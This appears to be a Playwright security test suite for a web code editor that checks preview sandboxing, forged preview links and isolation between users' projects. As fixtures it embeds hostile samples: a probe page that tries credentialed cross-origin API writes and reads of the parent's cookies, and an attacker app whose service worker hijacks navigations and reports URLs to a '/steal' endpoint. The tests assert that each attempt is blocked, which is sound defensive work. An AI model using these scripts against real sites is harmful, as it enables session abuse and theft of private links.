import type { Browser, Page } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { addFile, editorReady, expect, newAccount, registerViaApi, test } from './fixtures';
import { skipWithout } from './support/system-programs';

/**
 * A previewed page is the user's code, or code from a zip or repository they imported: it runs
 * with the preview frame's sandbox flags, same-origin included. It must not reach the app's
 * cookies or API with the user's session (decision 0005). This page tries.
 */
function probePage(appOrigin: string) {
  return `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Probe</title></head>
  <body>
    <h1>Probe</h1>
    <script>
      (async () => {
        const APP = ${JSON.stringify(appOrigin)};
        const result = { origin: location.origin };
        async function attempt(name, run) {
          try {
            result[name] = await run();
          } catch (error) {
            result[name] = 'blocked: ' + error.name;
          }
        }
        await attempt('readMe', async () => {
          const response = await fetch(APP + '/api/auth/me', { credentials: 'include' });
          return 'read ' + response.status + ' ' + (await response.text()).slice(0, 200);
        });
        await attempt('createJson', async () => {
          const response = await fetch(APP + '/api/projects', {
            method: 'POST',
            credentials: 'include',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ name: 'pwned-json' }),
          });
          return 'sent ' + response.status;
        });
        // A "simple" request skips the CORS preflight, so the browser does send it: the server
        // must refuse it on its own (no session cookie cross-site, no CSRF header).
        await attempt('createSimple', async () => {
          const response = await fetch(APP + '/api/projects', {
            method: 'POST',
            mode: 'no-cors',
            credentials: 'include',
            headers: { 'content-type': 'text/plain' },
            body: JSON.stringify({ name: 'pwned-simple' }),
          });
          return 'sent ' + response.type;
        });
        result.cookie = document.cookie;
        try {
          result.parentCookie = String(parent.document.cookie);
        } catch (error) {
          result.parentCookie = 'blocked: ' + error.name;
        }
        document.body.dataset.result = JSON.stringify(result);
        console.log('probe finished', result);
      })();
    </script>
  </body>
</html>`;
}

async function csrfToken(page: Page) {
  const cookies = await page.context().cookies();
  return cookies.find((cookie) => cookie.name === 'csrf_token')?.value ?? '';
}

/** A project made through the API from a zip holding `index.html`. */
async function createProjectWithPage(page: Page, html: string) {
  const headers = { 'x-csrf-token': await csrfToken(page) };
  const upload = await page.request.post('/api/upload/project-file', {
    headers,
    multipart: {
      file: {
        name: 'probe.zip',
        mimeType: 'application/zip',
        buffer: Buffer.from(zipSync({ 'index.html': strToU8(html) })),
      },
    },
  });
  expect(upload.status()).toBe(201);
  const { id } = (await upload.json()) as { id: string };
  const created = await page.request.post('/api/projects', {
    headers,
    data: { name: 'Probe', zipFiles: [{ id, name: 'probe.zip' }] },
  });
  expect(created.status()).toBe(201);
  return ((await created.json()) as { id: string }).id;
}

interface ProbeResult {
  origin: string;
  readMe: string;
  createJson: string;
  createSimple: string;
  cookie: string;
  parentCookie: string;
}

interface ForwardedMessage {
  origin: string;
  data: { source: string; level: string; args: string[]; timestamp: number };
}

test.describe('preview isolation', () => {
  test("a script in the preview cannot use the app's API or cookies with the user's session", async ({
    page,
    baseURL,
    signedIn,
  }) => {
    void signedIn;
    const appOrigin = new URL(baseURL!).origin;
    const projectId = await createProjectWithPage(page, probePage(appOrigin));
    const linkResponse = await page.request.get(`/api/projects/${projectId}/preview`);
    expect(linkResponse.status()).toBe(200);
    const link = (await linkResponse.json()) as { url: string; expiresAt: string };
    const previewOrigin = new URL(link.url).origin;
    expect(previewOrigin).not.toBe(appOrigin);
    // The project's own origin, under the preview host (decision 0005).
    expect(new URL(link.url).hostname).toBe(`p-${projectId}.localhost`);

    // The app's cookies exist in this browser, one of them readable by the app's own scripts.
    const appCsrf = await csrfToken(page);
    expect(appCsrf).not.toBe('');

    // An app page frames the preview the way the editor does, with the same sandbox flags.
    await page.goto('/dashboard');
    await page.evaluate((url) => {
      const messages: unknown[] = [];
      (window as unknown as { previewMessages: unknown[] }).previewMessages = messages;
      window.addEventListener('message', (event) => {
        if ((event.data as { source?: string } | null)?.source === 'kiln-preview') {
          messages.push({ origin: event.origin, data: event.data });
        }
      });
      const frame = document.createElement('iframe');
      frame.title = 'Preview';
      frame.sandbox.add('allow-scripts', 'allow-same-origin', 'allow-forms');
      frame.sandbox.add('allow-popups', 'allow-modals');
      frame.src = url;
      document.body.append(frame);
    }, link.url);

    const body = page.frameLocator('iframe[title="Preview"]').locator('body');
    await expect(body).toHaveAttribute('data-result', /origin/);
    const result = JSON.parse((await body.getAttribute('data-result'))!) as ProbeResult;

    expect(result.origin).toBe(previewOrigin);
    // No CORS headers: the browser refuses to hand the answer to the page.
    expect(result.readMe).toBe('blocked: TypeError');
    // The JSON write needs a preflight, which the app does not grant: it is never sent.
    expect(result.createJson).toBe('blocked: TypeError');
    // The simple write is sent, and the app's Cross-Origin-Resource-Policy hides even an opaque
    // answer; the project list below shows the server refused it.
    expect(result.createSimple).toBe('blocked: TypeError');
    // Another site: none of the app's cookies, and the app's document is out of reach.
    expect(result.cookie).toBe('');
    expect(result.cookie).not.toContain(appCsrf);
    expect(result.parentCookie).toBe('blocked: SecurityError');

    // The injected console script forwarded the page's log to the app's window.
    await expect
      .poll(async () =>
        page.evaluate(
          () => (window as unknown as { previewMessages: ForwardedMessage[] }).previewMessages,
        ),
      )
      .toContainEqual(
        expect.objectContaining({
          origin: previewOrigin,
          data: expect.objectContaining({
            source: 'kiln-preview',
            level: 'log',
            args: ['probe finished', expect.stringContaining('"blocked: TypeError"')],
          }),
        }),
      );

    // Nothing was written with the user's session, and the session itself is untouched.
    const projects = await page.request.get('/api/projects');
    expect(projects.status()).toBe(200);
    const names = ((await projects.json()) as { name: string }[]).map((project) => project.name);
    expect(names).toEqual(['Probe']);
    expect((await page.request.get('/api/auth/me')).status()).toBe(200);
  });

  test('a forged preview link shows a small page instead of the project', async ({
    page,
    signedIn,
  }) => {
    void signedIn;
    const projectId = await createProjectWithPage(page, '<p>private content</p>');
    const link = (await (await page.request.get(`/api/projects/${projectId}/preview`)).json()) as {
      url: string;
    };
    const url = new URL(link.url);
    const [, , token = ''] = url.pathname.split('/');
    const [payload = '', signature = ''] = token.split('.');
    const forged = `${payload}.${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`;

    const ok = await page.goto(link.url);
    expect(ok?.status()).toBe(200);
    await expect(page.getByText('private content')).toBeVisible();

    const refused = await page.goto(`${url.origin}/p/${forged}/`);
    expect(refused?.status()).toBe(404);
    await expect(page.getByRole('heading', { name: 'Preview not found' })).toBeVisible();
    await expect(page.getByText('private content')).toHaveCount(0);
  });
});

/**
 * An attacker's project: a running app whose page registers a service worker, asking (with the
 * `Service-Worker-Allowed: /` its app sends) to control every path of its origin, plants
 * cookies, one of them for the parent domain, and storage. The worker answers any page outside
 * its own link with the attacker's and reports that page's address (a preview link) home.
 */
const ATTACKER_PAGE = `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Attacker</title></head>
  <body>
    <h1>Attacker page</h1>
    <script>
      (async () => {
        const result = {};
        const report = (what) => fetch('steal?u=' + encodeURIComponent(what));
        document.cookie = 'planted_host=1; path=/';
        document.cookie = 'planted_none=1; path=/; SameSite=None; Secure';
        document.cookie = 'planted_parent=1; domain=localhost; path=/';
        document.cookie = 'planted_parent_none=1; domain=localhost; path=/; SameSite=None; Secure';
        localStorage.setItem('planted', 'attacker');
        result.cookie = document.cookie;
        try {
          result.rootScope = (await navigator.serviceWorker.register('sw.js', { scope: '/' })).scope;
        } catch (error) {
          result.rootScope = 'blocked: ' + error.name;
        }
        result.ownScope = (await navigator.serviceWorker.register('sw.js')).scope;
        await navigator.serviceWorker.ready;
        await report('registered ' + result.ownScope);
        document.body.dataset.result = JSON.stringify(result);
      })();
    </script>
  </body>
</html>`;

const ATTACKER_WORKER = `const home = new URL('./', location.href).href;
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate' || event.request.url.startsWith(home)) return;
  event.waitUntil(fetch(home + 'steal?u=' + encodeURIComponent(event.request.url)));
  event.respondWith(new Response('<!doctype html><title>Taken over</title><h1>Taken over</h1>', {
    headers: { 'content-type': 'text/html' },
  }));
});`;

/** The attacker's app: the page, the worker (allowed to take the whole origin), and its loot. */
const ATTACKER_APP = `const http = require('node:http');
const PAGE = ${JSON.stringify(ATTACKER_PAGE)};
const WORKER = ${JSON.stringify(ATTACKER_WORKER)};
const stolen = [];
http.createServer((request, response) => {
  const url = new URL(request.url, 'http://app');
  response.setHeader('service-worker-allowed', '/');
  if (url.pathname === '/sw.js') {
    response.setHeader('content-type', 'text/javascript');
    return response.end(WORKER);
  }
  if (url.pathname === '/steal') {
    stolen.push(url.searchParams.get('u'));
    return response.end('ok');
  }
  if (url.pathname === '/stolen') {
    response.setHeader('content-type', 'application/json');
    return response.end(JSON.stringify(stolen));
  }
  response.setHeader('content-type', 'text/html; charset=utf-8');
  response.end(PAGE);
}).listen(Number(process.env.PORT), () => console.log('attacker ready'));
`;

/** The victim's own page: it shows what reached its origin. */
const VICTIM_PAGE = `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Victim</title></head>
  <body>
    <h1>Private page of the victim</h1>
    <script>
      (async () => {
        const registrations = (await navigator.serviceWorker.getRegistrations()).length;
        document.body.dataset.state = JSON.stringify({
          origin: location.origin,
          cookie: document.cookie,
          stored: localStorage.getItem('planted'),
          registrations,
          controlled: navigator.serviceWorker.controller !== null,
        });
      })();
    </script>
  </body>
</html>`;

interface AttackerResult {
  cookie: string;
  rootScope: string;
  ownScope: string;
}

interface VictimState {
  origin: string;
  cookie: string;
  stored: string | null;
  registrations: number;
  controlled: boolean;
}

/** A second person, signed up in a browser of their own. */
async function anotherPerson(browser: Browser) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await registerViaApi(page, newAccount('victim'));
  return { context, page };
}

/** Presses Run for the project through the API and waits for its app's preview link. */
async function runApp(page: Page, projectId: string): Promise<string> {
  const headers = { 'x-csrf-token': await csrfToken(page) };
  const started = await page.request.post(`/api/projects/${projectId}/dev-server`, {
    headers,
    data: {},
  });
  expect(started.status()).toBe(200);
  let previewUrl: string | null = null;
  await expect
    .poll(
      async () => {
        const status = (await (
          await page.request.get(`/api/projects/${projectId}/dev-server`)
        ).json()) as { state: string; previewUrl: string | null };
        previewUrl = status.previewUrl;
        return status.state;
      },
      { timeout: 60_000 },
    )
    .toBe('running');
  return previewUrl!;
}

test.describe("one project's preview against another's", () => {
  skipWithout('bwrap');
  // A sandboxed app and two browsers on a 2-core machine.
  test.describe.configure({ timeout: 120_000 });

  test("a service worker, cookies and storage of one project's preview never reach another's, or the app", async ({
    page,
    browser,
    baseURL,
    signedIn,
  }) => {
    void signedIn;
    const attackerId = await createProjectWithPage(page, '<p>placeholder</p>');
    await addFile(
      page,
      attackerId,
      'package.json',
      JSON.stringify({ name: 'attacker', private: true, scripts: { start: 'node app.js' } }),
    );
    await addFile(page, attackerId, 'app.js', ATTACKER_APP);
    const attackerLink = await runApp(page, attackerId);
    expect(new URL(attackerLink).hostname).toBe(`p-${attackerId}.localhost`);

    // The victim opens the attacker's preview link in their browser, as a link sent to them.
    const victim = await anotherPerson(browser);
    await victim.page.goto(attackerLink);
    const attackerBody = victim.page.locator('body');
    await expect(attackerBody).toHaveAttribute('data-result', /ownScope/);
    const attack = JSON.parse((await attackerBody.getAttribute('data-result'))!) as AttackerResult;
    // Its worker registered, but only for its own link on its own origin: the app's
    // Service-Worker-Allowed never reached the browser.
    expect(attack.rootScope).toBe('blocked: SecurityError');
    expect(attack.ownScope).toBe(`${attackerLink}`);
    // Its cookies were set, on its own host only (the parent domain refused them).
    expect(attack.cookie).toContain('planted_host=1');
    expect(attack.cookie).not.toContain('planted_parent');

    // The victim opens their own project's preview: their page, untouched.
    const victimId = await createProjectWithPage(victim.page, VICTIM_PAGE);
    const victimLink = (await (
      await victim.page.request.get(`/api/projects/${victimId}/preview`)
    ).json()) as { url: string };
    expect(new URL(victimLink.url).hostname).toBe(`p-${victimId}.localhost`);
    await victim.page.goto(victimLink.url);
    await expect(
      victim.page.getByRole('heading', { name: 'Private page of the victim' }),
    ).toBeVisible();
    await expect(victim.page.getByRole('heading', { name: 'Taken over' })).toHaveCount(0);
    const victimBody = victim.page.locator('body');
    await expect(victimBody).toHaveAttribute('data-state', /origin/);
    const state = JSON.parse((await victimBody.getAttribute('data-state'))!) as VictimState;
    expect(state).toEqual({
      origin: new URL(victimLink.url).origin,
      cookie: '',
      stored: null,
      registrations: 0,
      controlled: false,
    });

    // And in the editor's preview pane, as they work.
    await victim.page.goto(`/editor/${victimId}`);
    await editorReady(victim.page);
    const pane = victim.page.locator('iframe[title="Preview of index.html"]');
    await expect(
      pane.contentFrame().getByRole('heading', { name: 'Private page of the victim' }),
    ).toBeVisible();
    expect(new URL((await pane.getAttribute('src'))!).hostname).toBe(`p-${victimId}.localhost`);
    await victim.page.screenshot({ path: test.info().outputPath('victim-editor-preview.png') });

    // The attacker's code ran in the victim's browser and reported home, but never saw a link of
    // the victim's.
    await page.goto(`${attackerLink}stolen`);
    const stolen = JSON.parse((await page.locator('body').textContent())!) as string[];
    expect(stolen).toEqual([`registered ${attackerLink}`]);
    const victimToken = new URL(victimLink.url).pathname.split('/')[2]!;
    expect(JSON.stringify(stolen)).not.toContain(victimToken);
    expect(JSON.stringify(stolen)).not.toContain(victimId);

    // No cookie of the attacker's reaches the app or any other host than its own.
    const cookies = await victim.context.cookies();
    const planted = cookies.filter((cookie) => cookie.name.startsWith('planted'));
    expect(planted.length).toBeGreaterThan(0);
    for (const cookie of planted) expect(cookie.domain).toBe(`p-${attackerId}.localhost`);
    const appCookies = await victim.context.cookies(baseURL!);
    expect(appCookies.map((cookie) => cookie.name)).not.toContainEqual(
      expect.stringMatching(/^planted/),
    );
    await victim.context.close();
  });
});
